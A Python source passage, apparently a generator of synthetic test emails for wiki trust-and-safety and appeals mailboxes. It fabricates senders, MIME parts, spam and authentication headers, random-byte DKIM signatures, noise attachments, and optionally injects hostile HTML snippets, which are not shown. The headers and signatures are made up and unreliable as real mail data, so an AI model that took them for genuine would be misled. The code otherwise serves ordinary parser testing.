def _png(rng: Random, size: int) -> bytes:
    """A valid PNG of RGB noise, about ``size`` bytes long."""
    width = min(rng.choice((320, 480, 640, 800, 1024)), max(8, size // 12))
    row = 1 + width * 3
    height = max(1, size // row)
    raw = bytearray(rng.randbytes(row * height))
    raw[0::row] = bytes(height)  # filter type 0 on every scanline

    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(bytes(raw), 1))
        + chunk(b"IEND", b"")
    )


def _pdf(rng: Random, size: int) -> bytes:
    """A structurally plausible one-page PDF whose content stream is pseudo-random bytes."""
    stream = rng.randbytes(max(64, size - 600))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


# --------------------------------------------------------------------------------------
# Model
# --------------------------------------------------------------------------------------


@dataclass(slots=True)
class _Sender:
    name: str  # display name, may be empty
    local: str
    domain: str
    lang: str
    client: str
    hdr_charset: str  # charset the client uses for RFC 2047 headers
    hdr_enc: str  # "B" or "Q"
    style: str  # how the From header is written
    tz: timezone
    user: str  # their on-wiki username
    signature: str  # block after the name, may be empty


@dataclass(slots=True)
class _Thread:
    present: list[str]  # Message-IDs in this mailbox, oldest first
    references: list[str]  # full chain, including IDs that never reached the mailbox
    subject: str
    sender: int
    mailbox: str
    lang: str
    case: str | None
    quote: str
    quote_from: str
    quote_date: datetime


@dataclass(slots=True)
class _Entity:
    headers: list[str]
    body: bytes

    def to_bytes(self) -> bytes:
        return ("\r\n".join(self.headers) + "\r\n\r\n").encode("utf-8") + self.body


class _Generator:
    def __init__(self, seed: int, count: int) -> None:
        self.seed = seed
        self.rng = Random(seed)
        self.clock = START
        self.threads: deque[_Thread] = deque(maxlen=THREAD_WINDOW)
        self.senders: dict[int, _Sender] = {}
        self.pool = max(40, count // 3)
        self.next_case = 100 + Random(seed * 7919).randrange(400)
        self.next_ack = 1

    # -- identities ------------------------------------------------------------------

    def sender(self, index: int) -> _Sender:
        cached = self.senders.get(index)
        if cached is not None:
            return cached
        rng = Random(self.seed * 1_000_003 + index)
        lang = _pick(rng, LANG_WEIGHTS)
        if lang == "en":
            first, last = rng.choice(LATIN_FIRST), rng.choice(LATIN_LAST)
            name, tfirst, tlast = f"{first} {last}", first.lower(), last.lower()
            if rng.random() < 0.1:
                name = f"{last}, {first}"
        else:
            firsts, lasts = {
                "ar": (ARABIC_FIRST, ARABIC_LAST),
                "he": (HEBREW_FIRST, HEBREW_LAST),
                "ru": (CYRILLIC_FIRST, CYRILLIC_LAST),
                "de": (EURO_FIRST, EURO_LAST),
                "es": (EURO_FIRST, EURO_LAST),
            }[lang]
            (nf, tfirst), (nl, tlast) = rng.choice(firsts), rng.choice(lasts)
            name = f"{nf} {nl}"
            if rng.random() < 0.25:  # many write their name in Latin letters
                name = f"{tfirst.title()} {tlast.title()}"
        domain = _pick(rng, DOMAINS[lang])
        local = rng.choice(
            (
                f"{tfirst}.{tlast}",
                f"{tfirst}{tlast}",
                f"{tfirst}.{tlast}{rng.randrange(1, 99)}",
                f"{tfirst[0]}{tlast}",
                f"{tfirst}_{tlast}{rng.randrange(1960, 2008)}",
                f"{rng.choice(USER_PARTS_A).lower()}{rng.choice(USER_PARTS_B).lower()}"
                f"{rng.randrange(1, 999)}",
            )
        )
        client = CLIENT_BY_DOMAIN.get(domain) or rng.choice(("thunderbird", "apple", "generic"))
        if lang in ("ar", "he", "ru", "de", "es"):
            hdr_charset = _pick(rng, CHARSETS[lang]) if rng.random() < 0.5 else "UTF-8"
        else:
            hdr_charset = "UTF-8"
        if hdr_charset.lower() == "us-ascii":
            hdr_charset = "UTF-8"
        hdr_enc = "B" if rng.random() < 0.6 else "Q"
        style = _pick(rng, (("name", 0.7), ("quoted", 0.12), ("bare", 0.12), ("angle", 0.06)))
        offset = rng.choice(TIMEZONES[lang])
        tz = timezone(timedelta(hours=offset))
        user = self.username(rng)
        signature = ""
        r = rng.random()
        if r < 0.25:
            signature = (
                f"{rng.choice(TITLES)}\n+{rng.randrange(1, 99)} {rng.randrange(100, 999)} "
                f"{rng.randrange(100, 999)} {rng.randrange(1000, 9999)}"
            )
            if r < 0.12:
                signature += "\n\n" + rng.choice(DISCLAIMERS)
        sender = _Sender(
            name, local, domain, lang, client, hdr_charset, hdr_enc, style, tz, user, signature
        )
        self.senders[index] = sender
        return sender

    def pick_sender(self) -> int:
        # Skewed towards low indexes so that some people write many times.
        return int(self.pool * self.rng.random() ** 2.2)

    @staticmethod
    def username(rng: Random) -> str:
        a, b = rng.choice(USER_PARTS_A), rng.choice(USER_PARTS_B)
        return rng.choice(
            (f"{a}{b}", f"{a}{b}{rng.randrange(1, 9999)}", f"{a}_{b}", f"{a} {b}", f"{b}{a}")
        )

    def address(self, s: _Sender) -> str:
        """The sender's address as written this time: +tags, case and gmail dots vary."""
        rng = self.rng
        local, domain = s.local, s.domain
        r = rng.random()
        if r < 0.07 and domain in ("gmail.com", "googlemail.com"):
            bare = local.replace(".", "")
            if bare == local and len(local) > 3:
                cut = rng.randrange(1, len(local) - 1)
                local = f"{local[:cut]}.{local[cut:]}"
            else:
                local = bare
        elif r < 0.13:
            local = f"{local}+{rng.choice(('wiki', 'wmf', 'appeal', 'ts', 'lists'))}"
        elif r < 0.18:
            local, domain = local.upper(), domain.upper()
        elif r < 0.21:
            local = local[:1].upper() + local[1:]
            domain = domain.title()
        return f"{local}@{domain}"

    def from_header(self, s: _Sender, addr: str) -> str:
        if s.style == "bare" or not s.name:
            return f"From: {addr}"
        if s.style == "angle":
            return f"From: <{addr}>"
        if s.name.isascii():
            if s.style == "quoted" or "," in s.name or "." in s.name:
                return f'From: "{s.name}" <{addr}>'
            return f"From: {s.name} <{addr}>"
        return f"From: {_header_text(s.name, s.hdr_charset, s.hdr_enc)} <{addr}>"

    def message_id(self, s: _Sender, when: datetime) -> str:
        rng = self.rng
        if s.client == "gmail":
            core = "".join(rng.choice(B64) for _ in range(rng.randrange(40, 58)))
            return f"<CA{core}@mail.gmail.com>"
        if s.client == "outlook":
            pre = rng.choice(("AM9PR07MB", "DB9PR10MB", "PAXPR02MB", "BY5PR11MB", "SN6PR04MB"))
            pre += f"{rng.randrange(1000, 9999)}"
            tail = rng.randbytes(16).hex().upper()
            region = rng.choice(("eurprd07", "namprd11", "eurprd10", "namprd04"))
            return f"<{pre}{tail}@{pre}.{region}.prod.outlook.com>"
        if s.client == "yahoo":
            return (
                f"<{rng.randrange(10**8, 10**9)}.{rng.randrange(10**6, 10**7)}."
                f"{int(when.timestamp() * 1000)}@mail.yahoo.com>"
            )
        if s.client == "apple":
            u = rng.randbytes(16).hex().upper()
            return f"<{u[:8]}-{u[8:12]}-{u[12:16]}-{u[16:20]}-{u[20:]}@{s.domain}>"
        if s.client == "mailru":
            return f"<{int(when.timestamp())}.{rng.randbytes(8).hex()}@f{rng.randrange(100, 999)}.i.{s.domain}>"
        if s.client == "thunderbird":
            u = rng.randbytes(16).hex()
            return f"<{u[:8]}-{u[8:12]}-{u[12:16]}-{u[16:20]}-{u[20:]}@{s.domain}>"
        return f"<{when:%Y%m%d%H%M%S}.{rng.randbytes(6).hex()}@{s.domain}>"

    def boundary(self, client: str) -> str:
        rng = self.rng
        if client == "gmail":
            return "000000000000" + rng.randbytes(9).hex()[:18]
        if client == "outlook":
            return f"_{rng.randrange(0, 9):03d}_{rng.randbytes(20).hex().upper()}_"
        if client == "apple":
            u = rng.randbytes(16).hex().upper()
            return f"Apple-Mail={u[:8]}-{u[8:12]}-{u[12:16]}-{u[16:20]}-{u[20:]}"
        if client == "thunderbird":
            return "------------" + "".join(rng.choice(ALNUM) for _ in range(24))
        if client == "yahoo":
            return f"----=_Part_{rng.randrange(10**6, 10**7)}_{rng.randrange(10**8, 10**9)}.{rng.randrange(10**12, 10**13)}"
        return f"=_{rng.randbytes(12).hex()}"

    def tick(self) -> datetime:
        self.clock += timedelta(seconds=int(self.rng.expovariate(1 / 420)) + 1)
        return self.clock

    # -- transport headers -------------------------------------------------------------

    def trace(self, s: _Sender | None, rcpt: str, when: datetime, return_path: str) -> list[str]:
        rng = self.rng
        utc = when.astimezone(UTC)
        mx = rng.choice(MX_HOSTS)
        qid = "".join(rng.choice("0123456789ABCDEF") for _ in range(10))
        hops: list[str] = [f"Return-Path: {return_path}", f"Delivered-To: {rcpt}"]
        score = round(rng.gauss(0.5, 1.8), 1)
        tests = sorted(rng.sample(SPAM_TESTS, rng.randrange(2, 7)))
        hops.append(f"X-Original-To: {rcpt}")
        hops.append("X-Virus-Scanned: amavisd-new at example.org")
        hops.append(f"X-Spam-Flag: {'YES' if score >= 5 else 'NO'}")
        hops.append(f"X-Spam-Score: {score}")
        hops.append(
            _fold(
                "X-Spam-Status",
                f"{'Yes' if score >= 5 else 'No'}, score={score} tagged_above=-999 required=5 "
                f"tests=[{', '.join(tests)}] autolearn=ham autolearn_force=no",
            ).replace("\r\n ", "\r\n\t")
        )
        if s is not None and s.client == "gmail":
            host = f"mail-{rng.choice('wlpoqy')}{rng.choice('rfj')}{rng.randrange(1, 9)}-f{rng.randrange(41, 199)}.google.com"
            ip = f"209.85.{rng.randrange(128, 255)}.{rng.randrange(1, 254)}"
        else:
            base = s.domain.lower() if s is not None else "mail.example.net"
            host = (
                f"{rng.choice(('mail', 'smtp', 'out', 'mx', 'relay'))}{rng.randrange(1, 30)}.{base}"
            )
            ip = f"{rng.choice(('198.51.100', '203.0.113', '192.0.2'))}.{rng.randrange(1, 254)}"
        t1 = utc + timedelta(seconds=rng.randrange(1, 20))
        hops.append(
            f"Received: from {host} ({host} [{ip}])\r\n"
            f"\tby {mx} (Postfix) with ESMTPS id 4Z{qid}\r\n"
            f"\tfor <{rcpt}>; {format_datetime(t1)} (UTC)"
        )
        if s is not None and s.client == "gmail":
            smtp_id = f"{rng.randrange(10**17, 10**18)}"
            hops.append(
                f"Received: by {host} with SMTP id {smtp_id[:8]}f{smtp_id[8:]}\r\n"
                f"        for <{rcpt}>; {format_datetime(when.astimezone(timezone(timedelta(hours=-8))))}"
            )
            hops.append(
                "X-Google-Smtp-Source: " + base64.b64encode(rng.randbytes(63)).decode().rstrip("=")
            )
            hops.append(
                f"X-Received: by 2002:a05:{rng.randrange(6000, 7000):x}:{rng.randrange(4096, 65535):x}"
                f" with SMTP id {rng.randbytes(10).hex()}.{rng.randrange(1, 99)}.{int(when.timestamp())};\r\n"
                f"        {format_datetime(when.astimezone(timezone(timedelta(hours=-8))))}"
            )
        elif s is not None and rng.random() < 0.5:
            hops.append(
                f"Received: from [10.{rng.randrange(0, 255)}.{rng.randrange(0, 255)}.{rng.randrange(1, 254)}]"
                f" (unknown [{ip}])\r\n\tby {host} with ESMTPSA id {rng.randbytes(5).hex()}\r\n"
                f"\tfor <{rcpt}>; {format_datetime(when)}"
            )
        return hops

    def authentication(self, s: _Sender) -> list[str]:
        rng = self.rng
        dom = s.domain.lower()
        if rng.random() < 0.75:
            spf, dkim, dmarc = "pass", "pass", "pass"
        else:
            spf = rng.choice(("fail", "softfail", "pass", "none"))
            dkim = rng.choice(("fail", "none", "pass"))
            dmarc = "fail"
        mx = rng.choice(MX_HOSTS)
        return [
            f"Authentication-Results: {mx};\r\n"
            f"\tspf={spf} (sender SPF authorized) smtp.mailfrom={dom};\r\n"
            f"\tdkim={dkim} header.d={dom} header.s={rng.choice(('20230601', 'selector1', 's1024', 'mail'))}"
            f" header.b={base64.b64encode(rng.randbytes(6)).decode()};\r\n"
            f"\tdmarc={dmarc} (p=NONE sp=QUARANTINE dis=NONE) header.from={dom}"
        ]

    def dkim(self, s: _Sender, when: datetime) -> list[str]:
        rng = self.rng
        sig = base64.b64encode(rng.randbytes(256)).decode()
        lines = "\r\n\t ".join(sig[i : i + 70] for i in range(0, len(sig), 70))
        ts = int(when.timestamp())
        return [
            "DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\r\n"
            f"        d={s.domain.lower()}; s={rng.choice(('20230601', 'selector1', 'mail', 's1024'))}; "
            f"t={ts}; x={ts + 604800}; darn=example.org;\r\n"
            "        h=to:subject:message-id:date:from:mime-version:from:to:cc:subject\r\n"
            "         :date:message-id:reply-to;\r\n"
            f"        bh={base64.b64encode(rng.randbytes(32)).decode()};\r\n"
            f"        b={lines}"
        ]

    def client_headers(self, s: _Sender, subject: str) -> list[str]:
        rng = self.rng
        if s.client == "outlook":
            return [
                _fold("Thread-Topic", subject if subject.isascii() else "request"),
                f"Thread-Index: {base64.b64encode(rng.randbytes(22)).decode()}",
                "Accept-Language: en-US",
                "Content-Language: en-US",
                "X-MS-Has-Attach:",
                "X-MS-TNEF-Correlator:",
                f"x-ms-publictraffictype: Email\r\nx-ms-traffictypediagnostic: {rng.randbytes(6).hex().upper()}",
                f"x-ms-office365-filtering-correlation-id: {_uuid(rng)}",
                "x-microsoft-antispam: BCL:0;ARA:13230040|366016|1800799024|38070700018;",
                "x-microsoft-antispam-message-info:\r\n "
                + "\r\n ".join(
                    base64.b64encode(rng.randbytes(57)).decode()
                    for _ in range(rng.randrange(8, 20))
                ),
                f"x-forefront-antispam-report: CIP:255.255.255.255;CTRY:;LANG:{s.lang};SCL:1;SRV:;"
                f"IPV:NLI;SFV:NSPM;H:{rng.randbytes(5).hex().upper()}.namprd.prod.outlook.com;PTR:;"
                "CAT:NONE;SFS:(13230040)(366016)(1800799024);DIR:OUT;SFP:1102;",
                "X-OriginatorOrg: outlook.com",
                f"X-MS-Exchange-CrossTenant-Network-Message-Id: {_uuid(rng)}",
                f"X-MS-Exchange-CrossTenant-originalarrivaltime: {rng.randrange(1, 28):02d} Jan 2026 "
                f"{rng.randrange(0, 24):02d}:{rng.randrange(0, 60):02d}:{rng.randrange(0, 60):02d}.{rng.randrange(0, 9999):04d} (UTC)",
                "X-MS-Exchange-CrossTenant-fromentityheader: Hosted",
                f"X-MS-Exchange-CrossTenant-id: {_uuid(rng)}",
                "X-MS-Exchange-CrossTenant-rms-persistedconsumerorg: 00000000-0000-0000-0000-000000000000",
                f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {rng.randbytes(6).hex().upper()}",
            ]
        if s.client == "apple":
            return [f"X-Mailer: iPhone Mail (22C{rng.randrange(100, 161)})"]
        if s.client == "yahoo":
            return ["X-Mailer: WebService/1.1.23040 YMailNorrin"]
        if s.client == "thunderbird":
            return [
                "User-Agent: Mozilla Thunderbird",
                f"Content-Language: {s.lang if s.lang != 'en' else 'en-US'}",
            ]
        if s.client == "mailru":
            return [
                f"X-Mailer: Mail.Ru Mailer 1.0\r\nX-Originating-IP: [{rng.randrange(1, 223)}.{rng.randrange(0, 255)}.{rng.randrange(0, 255)}.{rng.randrange(1, 254)}]"
            ]
        return []

    # -- bodies ----------------------------------------------------------------------

    def fills(self, s: _Sender, wiki: tuple[str, str, str]) -> dict[str, object]:
        rng = self.rng
        code, family, _ = wiki
        other = self.username(rng).replace(" ", "_")
        return {
            "user": other,
            "user2": self.username(rng).replace(" ", "_"),
            "wiki": wiki[2],
            "n": rng.randrange(2, 14),
            "year": rng.choice((2019, 2021, 2022, 2023, 2024, 2025)),
            "hour": f"{rng.randrange(0, 24):02d}",
            "minute": f"{rng.randrange(0, 60):02d}",
            "diff": f"https://{code}.{family}.org/w/index.php?diff={rng.randrange(10**8, 10**9)}"
            f"&oldid={rng.randrange(10**8, 10**9)}",
            "page": f"https://{code}.{family}.org/wiki/User_talk:{s.user.replace(' ', '_')}",
        }

    def subject(self, s: _Sender, mailbox: str, fills: dict[str, object]) -> str:
        rng = self.rng
        if s.lang != "en" and rng.random() < 0.7:
            return rng.choice(SUBJECTS_NATIVE[s.lang]).format(**fills)
        table = SUBJECTS_APPEALS if mailbox.startswith("appeals") else SUBJECTS_CA
        subject = rng.choice(table).format(**fills)
        if rng.random() < 0.04:
            subject += " \u2013 urgent"  # en dash from autocorrect: a non-ASCII English subject
        return subject

    def evidence(self, wiki_code: str, bare: bool = False) -> str:
        """A list of diff links, as people paste them in reports."""
        rng = self.rng
        lines = [] if bare else [rng.choice(EVIDENCE_INTROS)]
        day = rng.randrange(1, 28)
        for _ in range(rng.randrange(2, 9)):
            url = (
                f"https://{wiki_code}/w/index.php?title=User_talk:{self.username(rng).replace(' ', '_')}"
                f"&diff={rng.randrange(10**8, 10**9)}&oldid={rng.randrange(10**8, 10**9)}"
            )
            month = rng.choice(("November", "December", "January"))
            note = rng.choice(EVIDENCE_NOTES)
            lines.append(url if bare else f"- {day} {month}: {url} {note}".rstrip())
            day = min(28, day + rng.randrange(0, 4))
        return "\n".join(lines)

    def prose(self, s: _Sender, subject: str, fills: dict[str, object], replying: bool) -> str:
        rng = self.rng
        paras: list[str] = []
        lang = s.lang
        paras.append(rng.choice(GREETINGS[lang]))
        if lang == "en":
            low = subject.lower()
            topic = next((t for key, t in TOPIC_BY_SUBJECT if key in low), None)
            topic = topic or rng.choice(("harassment", "doxxing", "threats", "ban", "appeal"))
            if replying:
                paras.append(rng.choice(REPLY_OPENERS["en"]).format(**fills))
            # Draw sentences without repeats: the topic's own first, then some generic ones.
            pool = list(EN_SENTENCES[topic])
            opener = pool.pop(0)
            rng.shuffle(pool)
            extra = rng.sample(EN_SENTENCES["generic"], 3)
            pool = pool[:3] + extra[:1] + pool[3:] + extra[1:]
            if not replying:
                pool.insert(0, opener)
            for _ in range(rng.choice((1, 2)) if replying else rng.choice((2, 3, 3, 4, 4))):
                take = pool[: rng.randrange(2, 5)]
                pool = pool[len(take) :]
                if take:
                    paras.append(" ".join(take).format(**fills))
            if not replying and rng.random() < 0.6:
                paras.append(self.evidence(wiki_code=str(fills["diff"]).split("/")[2]))
            if topic == "ban" and not replying:
                paras.append(
                    "\n".join(
                        f"* User:{self.username(rng).replace(' ', '_')}"
                        for _ in range(rng.randrange(3, 9))
                    )
                )
        else:
            pool = list(NATIVE_SENTENCES[lang])
            rng.shuffle(pool)
            for _ in range(rng.choice((1, 2)) if replying else rng.choice((2, 2, 3))):
                take = pool[: rng.randrange(2, 5)]
                pool = pool[len(take) :]
                if take:
                    paras.append(" ".join(take))
            if rng.random() < 0.5:
                paras.append(self.evidence(wiki_code=str(fills["diff"]).split("/")[2], bare=True))
        name = s.name or s.local
        paras.append(f"{rng.choice(CLOSINGS[lang])}\n{name}")
        if s.signature:
            paras.append(s.signature)
        if rng.random() < 0.12:
            paras.append(rng.choice(SIGNATURE_TAILS))
        return "\n\n".join(paras) + "\n"

    def text_leaf(self, text: str, subtype: str, charset: str, cte: str, flowed: bool) -> _Entity:
        data = text.encode(charset)
        params = f'charset="{charset}"' if self.rng.random() < 0.6 else f"charset={charset}"
        if flowed:
            params += "; format=flowed"
        if cte in ("7bit", "8bit"):
            body = _crlf(data)
        elif cte == "quoted-printable":
            body = _crlf(binascii.b2a_qp(data))
        else:
            body = _b64_lines(_crlf(data))
        return _Entity(
            [f"Content-Type: text/{subtype}; {params}", f"Content-Transfer-Encoding: {cte}"], body
        )

    def choose_cte(self, text: str) -> str:
        rng = self.rng
        if text.isascii():
            return "quoted-printable" if rng.random() < 0.15 else "7bit"
        r = rng.random()
        if r < 0.4:
            return "quoted-printable"
        if r < 0.75:
            return "base64"
        return "8bit"  # no line is anywhere near 998 octets

    def html(self, s: _Sender, text: str, charset: str, hostile: bool, cids: list[str]) -> str:
        rng = self.rng
        rtl = s.lang in ("ar", "he")
        paras = []
        for para in text.strip("\n").split("\n\n"):
            quoted = para.startswith(">")
            if quoted:
                para = "\n".join(
                    line[2:] if line.startswith("> ") else line[1:] for line in para.split("\n")
                )
            escaped = html.escape(para).replace("\n", "<br>\n")
            if quoted:
                escaped = (
                    '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;'
                    f'border-left:1px solid rgb(204,204,204);padding-left:1ex">{escaped}</blockquote>'
                )
            escaped = re.sub(
                r"(https?://[^\s<]+)", lambda m: f'<a href="{m.group(1)}">{m.group(1)}</a>', escaped
            )
            paras.append(escaped)
        extras: list[str] = []
        if hostile:
            for snippet in rng.sample(HOSTILE_HTML, rng.randrange(2, 6)):
                extras.append(snippet.replace("{hex}", rng.randbytes(8).hex()))
        for cid in cids:
            extras.append(
                f'<img src="cid:{cid}" alt="image.png" width="{rng.randrange(300, 800)}">'
            )
        direction = ' dir="rtl"' if rtl else ' dir="ltr"'
        meta = f'<meta http-equiv="Content-Type" content="text/html; charset={charset.lower()}">'
        if s.client == "outlook":
            body = "\n".join(
                f'<p class="MsoNormal"{direction}><span style="font-size:11.0pt">{p}<o:p></o:p></span></p>\n'
                '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>'
                for p in paras
            )
            return (
                '<html xmlns:v="urn:schemas-microsoft-com:vml" '
                'xmlns:o="urn:schemas-microsoft-com:office:office" '
                'xmlns:w="urn:schemas-microsoft-com:office:word" '
                'xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
                'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n'
                f'{meta}\n<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
                f'{OUTLOOK_STYLE}</head>\n<body lang="EN-US" link="#0563C1" vlink="#954F72" '
                f'style="word-wrap:break-word">\n<div class="WordSection1">\n{body}\n'
                + "\n".join(extras)
                + "\n</div>\n</body>\n</html>\n"
            )
        if s.client == "gmail":
            inner = "".join(f"<div{direction}>{p}</div><div><br></div>" for p in paras)
            return f"<div{direction}>{inner}{''.join(extras)}</div>\n"
        style = rng.choice(
            (
                "font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:13px",
                "font-family:Verdana;font-size:10pt;color:#333333",
                "overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;",
            )
        )
        inner = "\n".join(f"<p{direction}>{p}</p>" for p in paras)
        return (
            f"<html><head>{meta}<style>p{{margin:0 0 1em 0}} .sig{{color:#888}}</style></head>"
            f'<body style="{style}">\n<div>{inner}\n{"".join(extras)}</div>\n</body></html>\n'
        )

    def attachment(self, s: _Sender, inline_cid: str | None = None) -> _Entity:
        rng = self.rng
        size = int(1024 * 200 ** (rng.random() ** 1.8))  # 1 KB .. 200 KB, mostly small
        if inline_cid is not None:
            name, ctype = f"image00{rng.randrange(1, 9)}.png", "image/png"
            size = min(size, 60_000)
        elif s.lang != "en" and rng.random() < 0.5:
            name, ctype = rng.choice(NATIVE_ATTACHMENT_NAMES[s.lang])
        else:
            name, ctype = rng.choice(ATTACHMENT_NAMES)
            name = name.format(
                day=rng.randrange(1, 28),
                hour=rng.randrange(0, 24),
                minute=rng.randrange(0, 60),
                second=rng.randrange(0, 60),
                n1=rng.randrange(1, 9),
                n4=rng.randrange(1000, 9999),
            )
        data = _png(rng, size) if ctype == "image/png" else _pdf(rng, size)
        if name.isascii():
            ct_name = disp_name = f'"{name}"'
            ct = f"Content-Type: {ctype}; name={ct_name}"
            disp = f"filename={disp_name}"
        elif rng.random() < 0.5:
            # RFC 2231, as Thunderbird and Apple Mail write it
            quoted = "".join(
                chr(b) if chr(b).isalnum() and b < 128 or chr(b) in ".-_" else f"%{b:02X}"
                for b in name.encode("utf-8")
            )
            ct = f"Content-Type: {ctype};\r\n name*=UTF-8''{quoted}"
            disp = f"\r\n filename*=UTF-8''{quoted}"
        else:
            # RFC 2047 inside quoted strings, as Gmail and Outlook write it
            words = _encoded_words(name, "UTF-8", "B").replace("\r\n ", "")
            ct = f'Content-Type: {ctype}; name="{words}"'
            disp = f'filename="{words}"'
        if rng.random() < 0.15 and inline_cid is None:
            ct = ct.replace(ctype, "application/octet-stream", 1)
        headers = [ct]
        if inline_cid is not None:
            headers += [f"Content-Disposition: inline; {disp}", f"Content-ID: <{inline_cid}>"]
            if rng.random() < 0.5:
                headers.append(f"X-Attachment-Id: {inline_cid.split('@')[0]}")
        else:
            extra = f"; size={len(data)}" if s.client == "outlook" else ""
            headers.append(f"Content-Disposition: attachment; {disp}{extra}")
        headers.append("Content-Transfer-Encoding: base64")
        return _Entity(headers, _b64_lines(data))

    def multipart(
        self, subtype: str, parts: list[_Entity], client: str, extra: str = ""
    ) -> _Entity:
        boundary = self.boundary(client)
        chunks = []
        if self.rng.random() < 0.3:
            chunks.append(b"This is a multi-part message in MIME format.\r\n")
        for part in parts:
            chunks.append(b"--" + boundary.encode() + b"\r\n" + part.to_bytes() + b"\r\n")
        chunks.append(b"--" + boundary.encode() + b"--\r\n")
        quoted = f'"{boundary}"' if client != "gmail" or self.rng.random() < 0.5 else boundary
        return _Entity(
            [f"Content-Type: multipart/{subtype}{extra}; boundary={quoted}"], b"".join(chunks)
        )

    def body(self, s: _Sender, text: str, charset: str) -> tuple[_Entity, set[str]]:
        """Pick the MIME structure of a new request or reply; return it and its features."""
        rng = self.rng
        features: set[str] = set()
        want_html = rng.random() < HTML_SHARE
        want_attach = rng.random() < ATTACH_SHARE
        want_inline = rng.random() < INLINE_SHARE
        flowed = s.client in ("thunderbird", "apple") and rng.random() < 0.5
        if flowed:
            plain_text = _wrap(text, soft=" ")
        elif s.client in ("thunderbird", "mailru"):
            plain_text = _wrap(text)
        else:
            plain_text = text
        cte = self.choose_cte(plain_text)
        plain = self.text_leaf(plain_text, "plain", charset, cte, flowed)
        if not (want_html or want_inline):
            entity = plain
        else:
            features.add("html")
            cids = []
            if want_inline:
                features.add("inline_image")
                for _ in range(rng.choice((1, 1, 2))):
                    if s.client == "gmail":
                        cids.append(f"ii_{rng.randbytes(6).hex()[:11]}")
                    else:
                        cids.append(
                            f"image00{len(cids) + 1}.png@01DC{rng.randbytes(6).hex().upper()[:4]}.{rng.randbytes(4).hex().upper()}"
                        )
            hostile = rng.random() < 0.45
            if hostile:
                features.add("html_hostile")
            html_charset = charset if rng.random() < 0.6 else "UTF-8"
            if html_charset.lower() == "us-ascii":
                html_charset = "UTF-8"
            markup = self.html(s, text, html_charset, hostile, cids)
            html_cte = "quoted-printable" if rng.random() < 0.7 else "base64"
            html_leaf = self.text_leaf(markup, "html", html_charset, html_cte, False)
            if rng.random() < 0.03 and not want_inline:
                entity = html_leaf  # HTML only, no plain alternative
            else:
                entity = self.multipart("alternative", [plain, html_leaf], s.client)
            if want_inline:
                images = [self.attachment(s, cid) for cid in cids]
                entity = self.multipart(
                    "related",
                    [entity, *images],
                    s.client,
                    '; type="multipart/alternative"'
                    if entity.headers[0].startswith("Content-Type: multipart/alternative")
                    else "",
                )
        if want_attach:
            features.add("attachment")
            files = [self.attachment(s) for _ in range(rng.choice((1, 1, 1, 1, 1, 2, 2, 3)))]
            entity = self.multipart("mixed", [entity, *files], s.client)
        return entity, features

    # -- messages --------------------------------------------------------------------

    def assemble(self, top: list[str], entity: _Entity) -> bytes:
        head = "\r\n".join(top + entity.headers) + "\r\n\r\n"
        return head.encode("utf-8") + entity.body

    def new_case(self) -> str:
        self.next_case += self.rng.randrange(1, 4)
        return f"OA-2026-{self.next_case:06d}"

    def portal_id(self, kind: str) -> str:
        """Message-ID of mail the portal sent: it never arrives in these mailboxes."""
        n = self.next_ack
        self.next_ack += 1
        return f"<oa.{n}.{kind}.{self.rng.randbytes(4).hex()}@{PORTAL_DOMAIN}>"

    def common_top(
        self,
        s: _Sender,
        addr: str,
        mailbox: str,
        subject: str,
        when: datetime,
        msgid: str | None,
        extra: list[str],
    ) -> list[str]:
        rng = self.rng
        top = self.trace(s, mailbox, when, f"<{addr}>")
        if rng.random() < AUTH_RESULTS_SHARE:
            top += self.authentication(s)
        if s.client in ("gmail", "outlook", "yahoo") and rng.random() < 0.8:
            top += self.dkim(s, when)
        top.append("MIME-Version: 1.0")
        top += extra
        top.append(self.from_header(s, addr))
        top.append(f"Date: {format_datetime(when.astimezone(s.tz))}")
        if msgid is not None:
            top.append(f"Message-ID: {msgid}")
        if rng.random() < RAW_8BIT_HEADER_SHARE and not subject.isascii():
            top.append(f"Subject: {subject}")  # raw UTF-8, as SMTPUTF8 clients send it
        else:
            value = _header_text(subject, s.hdr_charset, s.hdr_enc)
            top.append(_fold("Subject", value) if value == subject else f"Subject: {value}")
        r = rng.random()
        if r < 0.7:
            top.append(f"To: {mailbox}")
        elif r < 0.85:
            top.append(f"To: <{mailbox}>")
        elif r < 0.95:
            label = "Trust and Safety" if mailbox.startswith("ca") else "Appeals"
            top.append(f'To: "{label}" <{mailbox}>')
        else:
            other = self.sender(self.pick_sender())
            top.append(f"To: {mailbox}")
            top.append(f"Cc: {other.local}@{other.domain}")
        top += self.client_headers(s, subject)
        return top

    def new_request(self) -> bytes:
        rng = self.rng
        index = self.pick_sender()
        s = self.sender(index)
        when = self.tick()
        mailbox = MAILBOXES[1] if rng.random() < 0.3 else MAILBOXES[0]
        wiki = rng.choice(WIKIS)
        fills = self.fills(s, wiki)
        subject = self.subject(s, mailbox, fills)
        text = self.prose(s, subject, fills, replying=False)
